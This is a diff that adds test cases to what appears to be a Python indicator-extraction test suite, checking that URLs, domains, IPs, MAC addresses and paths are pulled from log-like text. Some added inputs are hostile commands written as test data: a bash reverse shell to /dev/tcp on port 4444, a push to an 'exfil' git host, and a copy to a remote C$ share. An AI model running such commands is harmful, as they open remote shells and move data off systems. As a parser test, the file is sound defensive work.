@@ -430,10 +430,35 @@ CASES: list[Case] = [
         url="https://img.evil-cdn.org/s.png",
         dns="img.evil-cdn.org",
     ),
+    C(
+        "forum post: [url=http://free-keys.evil.ws/get]free keys[/url]",
+        url="http://free-keys.evil.ws/get",
+        dns="free-keys.evil.ws",
+    ),
+    C(
+        "[url]https://warez-drop.net/crack.rar[/url] [IMG]http://i.warez-drop.net/a.png[/IMG]",
+        url=["https://warez-drop.net/crack.rar", "http://i.warez-drop.net/a.png"],
+        dns=["warez-drop.net", "i.warez-drop.net"],
+    ),
+    C(
+        "PHP arrays stay: http://shop-evil.com/cart?id[]=1&f[x]=2",
+        url="http://shop-evil.com/cart?id[]=1&f[x]=2",
+        dns="shop-evil.com",
+    ),
+    C(
+        "¿Visitó http://premio-falso.es/ganar? ¡http://premio-falso.es/ya!",
+        url=["http://premio-falso.es/ganar", "http://premio-falso.es/ya"],
+        dns="premio-falso.es",
+    ),
     # ---------------------------------------------------------------- cisco MAC
     C("show mac address-table: 0050.56c0.0001 DYNAMIC Gi1/0/3", mac="0050.56c0.0001"),
     C("arp entry 10.1.1.20 -> AABB.CCDD.EEFF on Vlan10", ipv4="10.1.1.20", mac="aabb.ccdd.eeff"),
     C("firmware build 2021.0415.1200 deployed"),
+    C(
+        "Internet  10.20.1.5   12   001a.2b3c.4d5e  ARPA   Vlan20. Next: 001A.2B3C.4D5F.",
+        ipv4="10.20.1.5",
+        mac=["001a.2b3c.4d5e", "001a.2b3c.4d5f"],
+    ),
     C("the host 0050.56c0.0001.example is not a MAC"),
     # ---------------------------------------------------------------- non-web URL schemes
     C(
@@ -489,7 +514,24 @@ CASES: list[Case] = [
         url="file://203.0.113.12/share/invoice.lnk",
         ipv4="203.0.113.12",
     ),
+    C(
+        "pushes to git+ssh://git@code-exfil.net/loot.git",
+        url="git+ssh://git@code-exfil.net/loot.git",
+        dns="code-exfil.net",
+    ),
+    C("the text ldap:// alone, or tcp:// with nothing after"),
     # ---------------------------------------------------------------- ipv4 leading zeros
+    C(
+        "copy to \\\\010.020.030.040\\c$\\x.exe",
+        ipv4="10.20.30.40",
+        windows_path="\\\\010.020.030.040\\c$\\x.exe",
+    ),
+    C(
+        "bash -i >& /dev/tcp/045.137.021.009/4444",
+        ipv4="45.137.21.9",
+        linux_path="/dev/tcp/045.137.021.009/4444",
+    ),
+    C("octet 0177.0.0.1 has four digits: not an address"),
     C("ping 010.001.002.003 (octal-looking)", ipv4="10.1.2.3"),
     C("src=192.168.001.010 dst=008.008.008.008", ipv4=["192.168.1.10", "8.8.8.8"]),
     C("hxxp://045.137.021.009/a", url="http://045.137.021.009/a", ipv4="45.137.21.9"),
